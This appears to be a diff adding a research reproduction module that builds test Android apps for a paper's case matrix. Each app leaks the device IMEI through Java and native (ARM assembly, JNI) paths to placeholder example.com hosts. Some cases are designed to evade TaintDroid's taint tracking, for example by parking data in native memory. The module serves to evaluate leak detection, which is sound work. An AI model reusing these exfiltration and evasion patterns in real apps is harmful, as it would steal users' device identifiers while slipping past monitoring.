@@ -1,0 +1,364 @@
+"""The Table I case matrix as runnable apps (paper Section IV, Fig. 3).
+
+Each case app leaks the device IMEI through a different
+{source, intermediate, sink} arrangement:
+
+* **case 1** — Java source → native intermediate → Java sink via the
+  native method's *return value*.  TaintDroid's call-bridge policy (taint
+  the return if any parameter is tainted) catches this — the only case it
+  catches.
+* **case 1'** — the tainted parameter is *stashed in native memory* by one
+  call and fetched back by a second call with untainted parameters; the
+  bridge policy yields no taint, so TaintDroid misses it.
+* **case 2** — Java source → native sink (``send`` from native code).
+* **case 3** — the paper's Fig. 9 shape: data enters native, is re-wrapped
+  via ``NewStringUTF`` and pushed back through ``CallVoidMethod`` to a
+  Java callback that transmits it.
+* **case 4** — the *native* code pulls the data out of the Java context
+  itself (``CallStaticObjectMethod`` on a source-calling Java method) and
+  leaks it through a native ``send``.
+"""
+
+from __future__ import annotations
+
+from repro.apps.base import Scenario
+from repro.common.taint import TAINT_IMEI
+from repro.dalvik.classes import ClassDef, MethodBuilder
+from repro.framework.apk import Apk
+from repro.jni.slots import jni_offset
+
+_GET_CHARS = jni_offset("GetStringUTFChars")
+_NEW_STRING = jni_offset("NewStringUTF")
+_GET_STATIC_MID = jni_offset("GetStaticMethodID")
+_CALL_STATIC_VOID = jni_offset("CallStaticVoidMethod")
+_CALL_STATIC_OBJ = jni_offset("CallStaticObjectMethod")
+
+
+def _java_main_prologue(builder: MethodBuilder, library: str) -> None:
+    builder.const_string(0, library)
+    builder.invoke_static("Ljava/lang/System;->loadLibrary", 0)
+
+
+# --------------------------------------------------------------------- case 1
+
+def build_case1() -> Scenario:
+    """Java source -> native transform -> Java sink (detected by both)."""
+    cls = ClassDef("Lcom/cases/One;")
+    cls.add_method(MethodBuilder(cls.name, "wrap", "LL", static=True,
+                                 native=True).build())
+    main = MethodBuilder(cls.name, "main", "V", static=True, registers=6)
+    _java_main_prologue(main, "libcase1.so")
+    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
+    main.move_result_object(1)
+    main.invoke_static(f"{cls.name}->wrap", 1)   # step 1: into native
+    main.move_result_object(2)
+    main.const_string(3, "case1.collect.example.com:80")
+    main.invoke_static("Lorg/apache/http/client/HttpClient;->post", 3, 2)
+    main.ret_void()                               # step 2: Java sends
+    cls.add_method(main.build())
+
+    native = f"""
+    Java_com_cases_One_wrap:          ; (env, jclass, jstring) -> jstring
+        push {{r4, r5, lr}}
+        mov r4, r0
+        ; chars = GetStringUTFChars(env, str, NULL)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_GET_CHARS}]
+        mov r1, r2
+        mov r2, #0
+        blx ip
+        mov r5, r0
+        ; return NewStringUTF(env, chars)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_NEW_STRING}]
+        mov r0, r4
+        mov r1, r5
+        blx ip
+        pop {{r4, r5, pc}}
+    """
+    apk = Apk(package="com.cases.one", category="Tools", classes=[cls],
+              native_libraries={"libcase1.so": native},
+              load_library_calls=["libcase1.so"])
+    return Scenario(
+        name="case1", apk=apk, case="1", expected_taint=TAINT_IMEI,
+        expected_destination="case1.collect.example.com",
+        taintdroid_alone_detects=True,
+        description="Java source -> native intermediate -> Java sink via "
+                    "the native return value (Fig. 3a)")
+
+
+# -------------------------------------------------------------------- case 1'
+
+def build_case1_prime() -> Scenario:
+    """Stash in native memory, fetch via a second untainted call."""
+    cls = ClassDef("Lcom/cases/OnePrime;")
+    cls.add_method(MethodBuilder(cls.name, "stash", "IL", static=True,
+                                 native=True).build())
+    cls.add_method(MethodBuilder(cls.name, "fetch", "L", static=True,
+                                 native=True).build())
+    main = MethodBuilder(cls.name, "main", "V", static=True, registers=6)
+    _java_main_prologue(main, "libcase1p.so")
+    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
+    main.move_result_object(1)
+    main.invoke_static(f"{cls.name}->stash", 1)   # step 1 (return unused)
+    main.invoke_static(f"{cls.name}->fetch")      # step 2'' (no taint in)
+    main.move_result_object(2)
+    main.const_string(3, "case1p.collect.example.com:80")
+    main.invoke_static("Lorg/apache/http/client/HttpClient;->post", 3, 2)
+    main.ret_void()                               # step 3
+    cls.add_method(main.build())
+
+    native = f"""
+    Java_com_cases_OnePrime_stash:    ; (env, jclass, jstring) -> int
+        push {{r4, r5, lr}}
+        mov r4, r0
+        ldr ip, [r4]
+        ldr ip, [ip, #{_GET_CHARS}]
+        mov r1, r2
+        mov r2, #0
+        blx ip
+        ; strcpy(stash_buffer, chars)
+        mov r1, r0
+        ldr r0, =stash_buffer
+        ldr ip, =strcpy
+        blx ip
+        mov r0, #0
+        pop {{r4, r5, pc}}
+
+    Java_com_cases_OnePrime_fetch:    ; (env, jclass) -> jstring
+        push {{r4, lr}}
+        mov r4, r0
+        ldr ip, [r4]
+        ldr ip, [ip, #{_NEW_STRING}]
+        ldr r1, =stash_buffer
+        blx ip
+        pop {{r4, pc}}
+
+    .align 2
+    stash_buffer:
+        .space 64
+    """
+    apk = Apk(package="com.cases.oneprime", category="Tools", classes=[cls],
+              native_libraries={"libcase1p.so": native},
+              load_library_calls=["libcase1p.so"])
+    return Scenario(
+        name="case1_prime", apk=apk, case="1'", expected_taint=TAINT_IMEI,
+        expected_destination="case1p.collect.example.com",
+        taintdroid_alone_detects=False,
+        description="Sensitive data parked in native memory and fetched by "
+                    "a second, untainted native call (Fig. 3b, steps 2''/3)")
+
+
+# --------------------------------------------------------------------- case 2
+
+def build_case2() -> Scenario:
+    """Java source -> native sink (send from native code)."""
+    cls = ClassDef("Lcom/cases/Two;")
+    cls.add_method(MethodBuilder(cls.name, "exfiltrate", "VL", static=True,
+                                 native=True).build())
+    main = MethodBuilder(cls.name, "main", "V", static=True, registers=4)
+    _java_main_prologue(main, "libcase2.so")
+    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
+    main.move_result_object(1)
+    main.invoke_static(f"{cls.name}->exfiltrate", 1)   # steps 1+2
+    main.ret_void()
+    cls.add_method(main.build())
+
+    native = f"""
+    Java_com_cases_Two_exfiltrate:    ; (env, jclass, jstring) -> void
+        push {{r4, r5, r6, lr}}
+        mov r4, r0
+        ldr ip, [r4]
+        ldr ip, [ip, #{_GET_CHARS}]
+        mov r1, r2
+        mov r2, #0
+        blx ip
+        mov r5, r0                    ; chars
+        ; fd = socket(AF_INET, SOCK_STREAM)
+        mov r0, #2
+        mov r1, #1
+        ldr ip, =socket
+        blx ip
+        mov r6, r0
+        ; connect(fd, "case2.collect.example.com:80")
+        ldr r1, =dest
+        ldr ip, =connect
+        blx ip
+        ; n = strlen(chars)
+        mov r0, r5
+        ldr ip, =strlen
+        blx ip
+        mov r2, r0
+        ; send(fd, chars, n, 0)
+        mov r0, r6
+        mov r1, r5
+        mov r3, #0
+        ldr ip, =send
+        blx ip
+        pop {{r4, r5, r6, pc}}
+    dest:
+        .asciz "case2.collect.example.com:80"
+    """
+    apk = Apk(package="com.cases.two", category="Communication",
+              classes=[cls], native_libraries={"libcase2.so": native},
+              load_library_calls=["libcase2.so"])
+    return Scenario(
+        name="case2", apk=apk, case="2", expected_taint=TAINT_IMEI,
+        expected_destination="case2.collect.example.com",
+        taintdroid_alone_detects=False,
+        description="Native code sends the sensitive parameter out itself "
+                    "(Fig. 3b, steps 1/2)")
+
+
+# --------------------------------------------------------------------- case 3
+
+def build_case3() -> Scenario:
+    """Native wraps the data in a new String and pushes it to Java."""
+    cls = ClassDef("Lcom/cases/Three;")
+    cls.add_method(MethodBuilder(cls.name, "evade", "VL", static=True,
+                                 native=True).build())
+    callback = MethodBuilder(cls.name, "nativeCallback", "VL", static=True,
+                             registers=3)
+    callback.const_string(0, "case3.collect.example.com:80")
+    callback.invoke_static("Lorg/apache/http/client/HttpClient;->post", 0, 2)
+    callback.ret_void()
+    cls.add_method(callback.build())
+
+    main = MethodBuilder(cls.name, "main", "V", static=True, registers=4)
+    _java_main_prologue(main, "libcase3.so")
+    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
+    main.move_result_object(1)
+    main.invoke_static(f"{cls.name}->evade", 1)
+    main.ret_void()
+    cls.add_method(main.build())
+
+    native = f"""
+    Java_com_cases_Three_evade:       ; (env, jclass, jstring) -> void
+        push {{r4, r5, r6, r7, lr}}
+        mov r4, r0
+        mov r7, r1                    ; jclass
+        ldr ip, [r4]
+        ldr ip, [ip, #{_GET_CHARS}]
+        mov r1, r2
+        mov r2, #0
+        blx ip
+        mov r5, r0                    ; chars
+        ; wrapped = NewStringUTF(env, chars)    (step 1)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_NEW_STRING}]
+        mov r0, r4
+        mov r1, r5
+        blx ip
+        mov r6, r0                    ; new jstring iref
+        ; mid = GetStaticMethodID(env, jclass, "nativeCallback", 0)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_GET_STATIC_MID}]
+        mov r0, r4
+        mov r1, r7
+        ldr r2, =cb_name
+        mov r3, #0
+        blx ip
+        mov r2, r0
+        ; CallStaticVoidMethod(env, jclass, mid, wrapped)   (step 2)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_CALL_STATIC_VOID}]
+        mov r0, r4
+        mov r1, r7
+        mov r3, r6
+        blx ip
+        pop {{r4, r5, r6, r7, pc}}
+    cb_name:
+        .asciz "nativeCallback"
+    """
+    apk = Apk(package="com.cases.three", category="Tools", classes=[cls],
+              native_libraries={"libcase3.so": native},
+              load_library_calls=["libcase3.so"])
+    return Scenario(
+        name="case3", apk=apk, case="3", expected_taint=TAINT_IMEI,
+        expected_destination="case3.collect.example.com",
+        taintdroid_alone_detects=False,
+        description="Native re-wraps the data (NewStringUTF) and calls a "
+                    "Java method that transmits it (Fig. 3c, steps 3/4)")
+
+
+# --------------------------------------------------------------------- case 4
+
+def build_case4() -> Scenario:
+    """Native pulls the data from Java via JNI and leaks it natively."""
+    cls = ClassDef("Lcom/cases/Four;")
+    cls.add_method(MethodBuilder(cls.name, "harvest", "V", static=True,
+                                 native=True).build())
+    # The Java helper the native code invokes to obtain the data (step 1).
+    helper = MethodBuilder(cls.name, "readImei", "L", static=True,
+                           registers=2)
+    helper.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
+    helper.move_result_object(0)
+    helper.ret_object(0)
+    cls.add_method(helper.build())
+
+    main = MethodBuilder(cls.name, "main", "V", static=True, registers=2)
+    _java_main_prologue(main, "libcase4.so")
+    main.invoke_static(f"{cls.name}->harvest")
+    main.ret_void()
+    cls.add_method(main.build())
+
+    native = f"""
+    Java_com_cases_Four_harvest:      ; (env, jclass) -> void
+        push {{r4, r5, r6, r7, lr}}
+        mov r4, r0
+        mov r7, r1
+        ; mid = GetStaticMethodID(env, jclass, "readImei", 0)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_GET_STATIC_MID}]
+        ldr r2, =helper_name
+        mov r3, #0
+        blx ip
+        mov r2, r0
+        ; jstring = CallStaticObjectMethod(env, jclass, mid)   (step 1)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_CALL_STATIC_OBJ}]
+        mov r0, r4
+        mov r1, r7
+        blx ip
+        mov r5, r0
+        ; chars = GetStringUTFChars(env, jstring, NULL)
+        ldr ip, [r4]
+        ldr ip, [ip, #{_GET_CHARS}]
+        mov r0, r4
+        mov r1, r5
+        mov r2, #0
+        blx ip
+        mov r5, r0
+        ; fd = socket(2, 1); connect; send   (step 2)
+        mov r0, #2
+        mov r1, #1
+        ldr ip, =socket
+        blx ip
+        mov r6, r0
+        ldr r1, =dest
+        ldr ip, =connect
+        blx ip
+        mov r0, r5
+        ldr ip, =strlen
+        blx ip
+        mov r2, r0
+        mov r0, r6
+        mov r1, r5
+        mov r3, #0
+        ldr ip, =send
+        blx ip
+        pop {{r4, r5, r6, r7, pc}}
+    helper_name:
+        .asciz "readImei"
+    dest:
+        .asciz "case4.collect.example.com:80"
+    """
+    apk = Apk(package="com.cases.four", category="Tools", classes=[cls],
+              native_libraries={"libcase4.so": native},
+              load_library_calls=["libcase4.so"])
+    return Scenario(
+        name="case4", apk=apk, case="4", expected_taint=TAINT_IMEI,
+        expected_destination="case4.collect.example.com",
+        taintdroid_alone_detects=False,
+        description="Native fetches the data from the Java context via JNI "
+                    "and sends it out natively (Fig. 3c, steps 1/2)")
